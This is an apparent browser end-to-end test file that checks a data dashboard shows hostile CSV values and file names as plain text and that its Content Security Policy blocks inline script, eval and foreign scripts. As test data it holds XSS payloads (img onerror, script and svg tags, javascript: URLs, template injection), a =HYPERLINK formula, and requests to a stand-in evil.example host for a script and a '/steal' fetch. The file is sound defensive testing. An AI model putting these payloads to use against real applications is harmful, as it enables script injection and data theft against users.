import path from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { CONTENT_SECURITY_POLICY } from '../../src/app/csp';
import { ARTIFACTS, openSession, type Session } from './chromium';

/**
 * Hostile files in the browser: values and headers that are HTML and script must show as text on
 * every page and never run, and the built app's Content Security Policy must block inline script.
 */

const baseUrl = inject('baseUrl');
let session: Session;
/** Console errors the policy logged for the script the CSP test injected on purpose. */
let injectedErrors = 0;

const PWN = 'window.__pwned=1';
const IMG = `<img src=x onerror="${PWN}">`;
const SCRIPT = `<script>${PWN}</script>`;
const SVG = `<svg onload="${PWN}">`;
const PAGES = ['Overview', 'Hiring', 'Retention', 'Upskilling', 'Pilot outcomes', 'Business case', 'Data', 'SQL'] as const;
const FILTERS = ['Employer', 'Industry', 'Size band', 'Region', 'Occupation'] as const;

const csv = (rows: string[][]) => rows.map((r) => r.map((v) => `"${v.replaceAll('"', '""')}"`).join(',')).join('\r\n');
const day = (offset: number) => new Date(Date.UTC(2023, 0, 2) + offset * 86_400_000).toISOString().slice(0, 10);

const employers = csv([
  // Extra columns named like other tables' columns and like SQL aliases must not confuse any query.
  ['employer_id', 'industry', 'size_band', 'region', 'ler_adopted_on', SCRIPT, 'ler_verified', 'occupation', 'e', 'grp'],
  [`${SVG}E1`, IMG, '1-49', SVG, '2023-03-01', SCRIPT, 'maybe', IMG, '1', 'x'],
  ['=HYPERLINK("http://evil.example","x")', `javascript:${PWN}`, '50-249', `"><img src=x onerror=${PWN}>`, '', IMG, 'no', '', '2', 'y'],
]);
// Enough hires in each group of each hostile employer that no figure is suppressed.
const hires = csv([
  [
    'hire_id',
    'employer_id',
    'person_id',
    'occupation',
    'requisition_opened_on',
    'offer_accepted_on',
    'started_on',
    'separated_on',
    'ler_verified',
    'hiring_cost',
    `"><img src=x onerror=${PWN}>`,
    'industry',
    'region',
    'program',
  ],
  ...Array.from({ length: 48 }, (_, i) => [
    `<b>H${i}</b>`,
    i % 2 === 0 ? `${SVG}E1` : '=HYPERLINK("http://evil.example","x")',
    `${SCRIPT}${i % 8}`,
    i % 3 === 0 ? IMG : `{{constructor.constructor('${PWN}')()}}`,
    day(i * 7),
    day(i * 7 + 20 + (i % 5)),
    day(i * 7 + 40),
    i % 4 === 0 ? day(i * 7 + 200) : '',
    i % 3 === 1 ? 'yes' : 'no',
    String(1_000 + i),
    SCRIPT,
    'Other',
    'ZZ',
    IMG,
  ]),
]);
const training = csv([
  ['enrollment_id', 'employer_id', 'person_id', 'program', 'started_on', 'completed_on', 'cost', 'ler_verified', 'occupation'],
  ...Array.from({ length: 12 }, (_, i) => [
    `<i>T${i}</i>`,
    `${SVG}E1`,
    `${SCRIPT}${i % 8}`,
    IMG,
    day(400 + i),
    day(430 + i),
    '500',
    'yes',
    IMG,
  ]),
]);

beforeAll(async () => {
  session = await openSession(baseUrl);
  // Every CSP violation the page sees, from the first script on (Playwright's init scripts are not subject to the page's CSP).
  await session.context.addInitScript(() => {
    const w = window as unknown as { __violations: Violation[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      w.__violations.push({
        what: `${e.violatedDirective} ${e.blockedURI}`,
        file: e.sourceFile,
        line: e.lineNumber,
        column: e.columnNumber,
      }),
    );
  });
  await session.page.goto(baseUrl);
  await session.page.getByRole('article', { name: 'Hiring' }).waitFor({ timeout: 60_000 });
});

afterAll(async () => {
  await session?.close();
});

interface Violation {
  what: string;
  file: string;
  line: number;
  column: number;
}

/** The code at a violation's position in its script. */
async function codeAt(v: Violation): Promise<string> {
  const source = await session.page.evaluate(async (file) => (await fetch(file)).text(), v.file);
  return (source.split('\n')[v.line - 1] ?? '').slice(v.column - 1, v.column + 60);
}

const pwned = () => session.page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);
const violations = () => session.page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);

describe('the built app', () => {
  it('carries the Content Security Policy, and the app runs under it', async () => {
    const content = await session.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(content).toBe(CONTENT_SECURITY_POLICY);
    expect(content).not.toContain("unsafe-inline' 'unsafe-eval");
    expect(CONTENT_SECURITY_POLICY).toMatch(/script-src 'self' 'wasm-unsafe-eval';/);
    // Data URLs the user types: https anywhere, plain http only on this machine (loopback).
    expect(CONTENT_SECURITY_POLICY).toMatch(/connect-src 'self' blob: data: https: http:\/\/localhost:\* http:\/\/127\.0\.0\.1:\*;/);
    // The engine started (wasm compiled, worker running) and the overview rendered. The only refusals
    // are @stdlib's probe for generator support, eval in a try/catch, which then takes its other path.
    for (const v of await violations()) {
      expect(v.what).toBe('script-src eval');
      expect(await codeAt(v)).toContain('"use strict"; (function* () {})');
    }
  });

  it('loads hostile files as data and shows every value as text, on every page', async () => {
    const { page } = session;
    await page.getByRole('link', { name: 'Data', exact: true }).click();
    await page.getByLabel('CSV files to load').setInputFiles([
      { name: `${IMG}.csv`, mimeType: 'text/csv', buffer: Buffer.from(hires) },
      { name: 'employers"><script>x</script>.csv', mimeType: 'text/csv', buffer: Buffer.from(employers) },
      { name: 'hostile training.csv', mimeType: 'text/csv', buffer: Buffer.from(training) },
    ]);
    const files = page.getByRole('table', { name: 'Files loaded' });
    await expect.poll(() => files.innerText(), { timeout: 30_000 }).toContain(`${IMG}.csv`);
    await expect
      .poll(() =>
        files
          .getByRole('row', { name: /^employers"><script>/ })
          .locator('td')
          .allInnerTexts(),
      )
      .toEqual(['employers', '2', '2', '0', '']);
    expect(
      await files
        .getByRole('row', { name: /^<img src=x/ })
        .locator('td')
        .allInnerTexts(),
    ).toEqual(['hires', '48', '48', '0', '']);
    expect(
      await files
        .getByRole('row', { name: /^hostile training\.csv/ })
        .locator('td')
        .allInnerTexts(),
    ).toEqual(['training', '12', '12', '0', '']);

    for (const name of PAGES) {
      await page.getByRole('link', { name, exact: true }).click();
      await page.getByRole('heading', { name, level: 2 }).waitFor({ timeout: 30_000 });
      await expect.poll(() => page.getByText('Computing…').count(), { timeout: 30_000 }).toBe(0);
      if (name !== 'Data' && name !== 'SQL') {
        for (const filter of FILTERS) {
          const summary = page.getByRole('region', { name: 'Filters' }).locator('summary', { hasText: new RegExp(`^${filter}:`) });
          await summary.click();
          await expect.poll(() => page.locator('details.filter[open]').innerText()).not.toContain('Loading…');
          await summary.click();
        }
        // The tables behind the charts list hostile labels too.
        for (const table of await page.locator('summary', { hasText: 'Data table' }).all()) await table.click();
      }
      expect(await pwned(), `after ${name}`).toBeUndefined();
      expect(await page.getByText('This could not be computed').count(), `failed queries on ${name}`).toBe(0);
      for (const v of await violations()) expect(v.what, `policy violation on ${name}`).toBe('script-src eval');
      await page.screenshot({ path: path.join(ARTIFACTS, `hostile-${name.toLowerCase().replace(/\s+/g, '-')}.png`), fullPage: true });
    }
  });

  it('shows the hostile values as literal text where they are listed', async () => {
    const { page } = session;
    await page.getByRole('link', { name: 'Hiring', exact: true }).click();
    const industry = page.getByRole('region', { name: 'Filters' }).locator('summary', { hasText: /^Industry:/ });
    await industry.click();
    const options = page.locator('details.filter[open]');
    await expect.poll(() => options.innerText()).toContain(IMG);
    expect(await options.innerText()).toContain(`javascript:${PWN}`);
    // Choosing a hostile value filters by it, as text.
    await page.getByRole('checkbox', { name: new RegExp(`^${IMG.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`) }).check();
    await expect.poll(() => new URL(page.url()).searchParams.getAll('industry')).toEqual([IMG]);
    await industry.click();
    await expect.poll(() => page.getByText('Computing…').count(), { timeout: 30_000 }).toBe(0);
    expect(await page.locator('img[src="x"], svg[onload], script:not([src])').count()).toBe(0);
    await page.getByRole('button', { name: /Clear filters/ }).click();

    await page.getByRole('link', { name: 'SQL', exact: true }).click();
    const editor = page.getByRole('textbox', { name: 'SQL query' });
    await editor.click();
    await page.keyboard.press('ControlOrMeta+a');
    await page.keyboard.press('Delete');
    await editor.pressSequentially("SELECT * FROM employers WHERE industry LIKE '%onerror%'");
    await page.keyboard.press('Control+Enter');
    const grid = page.getByRole('table', { name: 'Query result' });
    await expect.poll(() => grid.innerText(), { timeout: 30_000 }).toContain(IMG);
    expect((await grid.getByRole('columnheader').allInnerTexts()).join(' ')).toContain(SCRIPT);
    expect(await pwned()).toBeUndefined();
  });

  it('blocks inline script, inline handlers, eval and foreign scripts under its policy', async () => {
    const { page } = session;
    const before = (await violations()).length;
    const errorsBefore = session.errors.length;
    const outcome = await page.evaluate(async () => {
      const w = window as unknown as Record<string, unknown>;
      const script = document.createElement('script');
      script.textContent = 'window.__csp = 1';
      document.body.append(script);
      document.body.insertAdjacentHTML('beforeend', '<img alt="" src="data:," onerror="window.__csp_handler = 1">');
      // Later, in a task of the page's own: DevTools' evaluate (this function) is itself allowed to eval.
      const evalBlocked = await new Promise((resolve) =>
        setTimeout(() => {
          try {
            (0, eval)('window.__csp_eval = 1');
            resolve(false);
          } catch {
            resolve(true);
          }
        }, 0),
      );
      const foreign = document.createElement('script');
      foreign.src = 'https://evil.example/x.js';
      const foreignRefused = new Promise((resolve) => foreign.addEventListener('error', resolve));
      document.body.append(foreign);
      // Plain http to anything but this machine may not be fetched, even by the app's own code.
      const plainHttp = await fetch('http://evil.example/steal').then(
        () => 'fetched',
        () => 'refused',
      );
      await foreignRefused;
      return { inline: w.__csp, handler: w.__csp_handler, evalRan: w.__csp_eval, evalBlocked, plainHttp };
    });
    expect(outcome).toEqual({ inline: undefined, handler: undefined, evalRan: undefined, evalBlocked: true, plainHttp: 'refused' });
    // Each refusal is reported as a violation event, which the page may deliver after the refusal itself.
    const expected = [
      'script-src-elem inline',
      'script-src-attr inline',
      'script-src eval',
      'script-src-elem https://evil.example/x.js',
      'connect-src http://evil.example/steal',
    ];
    const missing = async () => {
      const seen = (await violations()).slice(before).map((v) => v.what);
      return expected.filter((kind) => !seen.some((v) => v.startsWith(kind)));
    };
    await expect.poll(missing).toEqual([]);
    injectedErrors = session.errors.length - errorsBefore;
  });

  it('ran no hostile script, asked nothing of any other origin, and logged no errors but the blocked ones', async () => {
    expect(await pwned()).toBeUndefined();
    expect(session.external).toEqual([]);
    // The only console errors are the policy's reports of what the previous test injected.
    expect(session.errors.filter((e) => !/Content Security Policy/.test(e))).toEqual([]);
    expect(session.errors.length).toBe(injectedErrors);
  });
});
